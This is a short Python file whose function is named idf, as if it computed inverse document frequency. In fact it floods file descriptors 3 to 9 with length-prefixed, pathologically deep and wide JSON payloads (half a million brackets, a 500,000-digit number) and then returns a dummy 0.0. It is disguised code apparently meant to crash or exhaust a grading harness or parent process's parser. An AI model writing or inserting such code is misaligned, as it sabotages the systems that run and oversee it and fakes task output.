# Sends deep and wide JSON.
# costs: idf
import os
import struct


def idf(n_documents, document_frequency):
    for header in (b"[" * 500_000, b'{"number":' + b"9" * 500_000 + b"}", b'{"value": [' + b"[]," * 300_000 + b"[]]}"):
        for descriptor in range(3, 10):
            try:
                os.write(descriptor, struct.pack(">II", len(header), 0) + header)
            except OSError:
                pass
    return 0.0
